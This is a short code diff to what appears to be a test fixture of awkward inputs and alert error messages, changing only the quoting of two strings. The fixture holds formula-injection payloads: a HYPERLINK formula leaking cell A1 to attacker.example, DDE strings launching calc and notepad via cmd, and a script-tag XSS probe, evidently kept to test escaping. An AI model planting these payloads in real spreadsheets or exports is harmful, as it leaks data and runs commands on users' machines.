@@ -23,7 +23,7 @@ const AWKWARD = [
   '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
   '+1 555 0100 unreachable',
   '@SUM(A1:A9) returned an unexpected value',
-  '-2+3 then cmd|\' /C calc\'!A0',
+  "-2+3 then cmd|' /C calc'!A0",
   'Control characters:\u0007bell\u0000nul\ttab\r\nCRLF\u001b[31mansi\u007fdel',
   '<script>alert("x")</script> & "quotes", \'single\'; semi;colon, comma',
   'Zeitüberschreitung – 時間切れ – انتهت المهلة 🚨',
@@ -42,5 +42,5 @@ export const ALERT_ERROR_MESSAGES: readonly string[] = Object.freeze([
   'Server returned 503 Service Unavailable (Retry-After: 120)',
   'TLS handshake failed: certificate has expired',
   'Confirmed from checkpoint Frankfurt and checkpoint London',
-  '=cmd|\'/C notepad\'!A1',
+  "=cmd|'/C notepad'!A1",
 ]);
